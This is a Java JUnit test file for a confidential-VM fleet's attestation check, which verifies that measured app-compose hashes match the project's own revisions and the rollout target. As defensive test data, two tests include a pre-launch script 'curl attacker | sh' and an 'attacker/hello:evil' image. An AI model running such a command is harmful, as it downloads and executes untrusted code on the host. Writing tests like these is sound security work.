package com.statefulcvm.delegates.attestation;

import com.statefulcvm.connectors.phala.PhalaCloudClient;
import com.statefulcvm.connectors.phala.model.Attestation;
import com.statefulcvm.connectors.phala.model.CvmInfo;
import com.statefulcvm.connectors.phala.model.TcbInfo;
import com.statefulcvm.fleet.ReplicaSetSpec;
import com.statefulcvm.fleet.Revision;
import com.statefulcvm.fleet.RevisionHistory;
import com.statefulcvm.fleet.admission.AppCompose;
import org.camunda.bpm.engine.delegate.DelegateExecution;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.when;

/**
 * Issue 20, admission bound to what we intend: the compose hashes a CVM may measure are computed from our own revisions
 * in dstack's app-compose form, so a CVM running our compose matches and one re-composed behind our back (another
 * compose, a pre-launch script) does not, whatever hash Phala reports for it.
 */
class ExpectedComposeHashesTest {

    private static final String OURS = "services:\n  web:\n    image: nginxdemos/hello:0.3\n";
    private static final String TARGET = "services:\n  web:\n    image: nginxdemos/hello:0.4\n";

    private final PhalaCloudClient phala = mock(PhalaCloudClient.class);
    private final RevisionHistory revisions = mock(RevisionHistory.class);
    private final com.statefulcvm.fleet.adoption.Adoptions adoptions = org.mockito.Mockito.mock(com.statefulcvm.fleet.adoption.Adoptions.class);
    private final ExpectedComposeHashes expected = new ExpectedComposeHashes(phala, revisions, adoptions);
    private final ReplicaSetSpec spec = new ReplicaSetSpec();
    private final CvmInfo cvm = new CvmInfo("cvm_1", "kv-1", "a".repeat(40), "uuid", "i-1", "running", false, null, "reported-by-phala",
            null, null, null, null, null, null, null, null, null, null, null, null);
    private final DelegateExecution rollout = mock(DelegateExecution.class);

    @BeforeEach
    void aSetOnRevisionOneRolledOutToATarget() {
        spec.setName("kv");
        when(revisions.currentRevision("kv")).thenReturn(Optional.of(new Revision("kv", 1, "d1", null, OURS, "fleet file", Instant.EPOCH, "")));
        when(revisions.updateRevision("kv")).thenReturn(Optional.empty());
        DelegateExecution attest = mock(DelegateExecution.class);
        when(attest.getProcessInstance()).thenReturn(attest);
        when(attest.getSuperExecution()).thenReturn(rollout);
        when(rollout.getProcessInstance()).thenReturn(rollout);
        when(rollout.getProcessInstanceId()).thenReturn("rollout-7");
        when(rollout.getVariable("targetCompose")).thenReturn(TARGET);
        this.attest = attest;
    }

    private DelegateExecution attest;

    /** The app compose the CVM publishes (and measures): Phala's fields around a docker compose. */
    private static Map<String, Object> published(String dockerCompose, String preLaunchScript) {
        Map<String, Object> compose = new LinkedHashMap<>();
        compose.put("manifest_version", 2);
        compose.put("name", "kv-0");
        compose.put("runner", "docker-compose");
        compose.put("docker_compose_file", dockerCompose);
        compose.put("allowed_envs", List.of());
        compose.put("kms_enabled", true);
        compose.put("gateway_enabled", true);
        if (preLaunchScript != null) {
            compose.put("pre_launch_script", preLaunchScript);
        }
        return compose;
    }

    private void publishes(Map<String, Object> compose) {
        when(phala.getAttestation("cvm_1")).thenReturn(new Attestation("kv-1", true, true, null, List.of(),
                new TcbInfo(null, null, null, null, null, null, List.of(), AppCompose.deterministicJson(compose)), null));
    }

    @Test
    void aCvmRunningOurRevisionOrTheRolloutsTargetMatches() {
        publishes(published(TARGET, null));
        ExpectedComposeHashes.Expected hashes = expected.of(spec, cvm, attest);
        assertThat(hashes.problem()).isNull();
        assertThat(hashes.hashes()).contains(AppCompose.hash(published(TARGET, null)), AppCompose.hash(published(OURS, null)))
                .doesNotContain("reported-by-phala");
        assertThat(hashes.intended()).containsExactly("revision 1 (current)", "the target of rollout-7");
    }

    @Test
    void aCvmReComposedBehindOurBackDoesNot() {
        Map<String, Object> evil = published("services:\n  web:\n    image: attacker/hello:evil\n", null);
        publishes(evil);
        assertThat(expected.of(spec, cvm, attest).hashes()).doesNotContain(AppCompose.hash(evil));
        Map<String, Object> withScript = published(OURS, "curl attacker | sh");
        publishes(withScript);
        assertThat(expected.of(spec, cvm, attest).hashes()).as("a pre-launch script we never sent").doesNotContain(AppCompose.hash(withScript));
    }

    @Test
    void anAppComposeThatIsNotPublishedIsAProblemNotAGuess() {
        when(phala.getAttestation("cvm_1")).thenReturn(new Attestation("kv-1", true, true, null, List.of(), null, null));
        ExpectedComposeHashes.Expected none = expected.of(spec, cvm, attest);
        assertThat(none.hashes()).isEmpty();
        assertThat(none.problem()).isEqualTo("Phala publishes no app compose for kv-1");
    }

    /**
     * Drift is taken from what Phala publishes only when the CVM's measured compose hash proves it: a published compose
     * whose hash is not the measured one (Phala, or whoever answers for it, claiming another compose) is not what runs,
     * and neither is a compose beside a pre-launch script (adopting the compose alone would not reproduce it).
     */
    @Test
    void theRunningComposeIsTakenOnlyWhenTheMeasuredHashProvesIt() {
        String theirs = "services:\n  web:\n    image: nginxdemos/hello:0.4\n";
        Map<String, Object> drifted = published(theirs, null);
        publishes(drifted);
        ExpectedComposeHashes.Published published = expected.of(spec, cvm, attest).published();
        assertThat(published.ifMeasured(AppCompose.hash(drifted))).isEqualTo(theirs);
        assertThat(published.ifMeasured(AppCompose.hash(published(OURS, null)))).as("Phala's word against the quote's").isNull();
        assertThat(published.ifMeasured(null)).isNull();
        publishes(published(theirs, "curl attacker | sh"));
        assertThat(expected.of(spec, cvm, attest).published()).as("a compose beside a pre-launch script").isNull();
    }
}
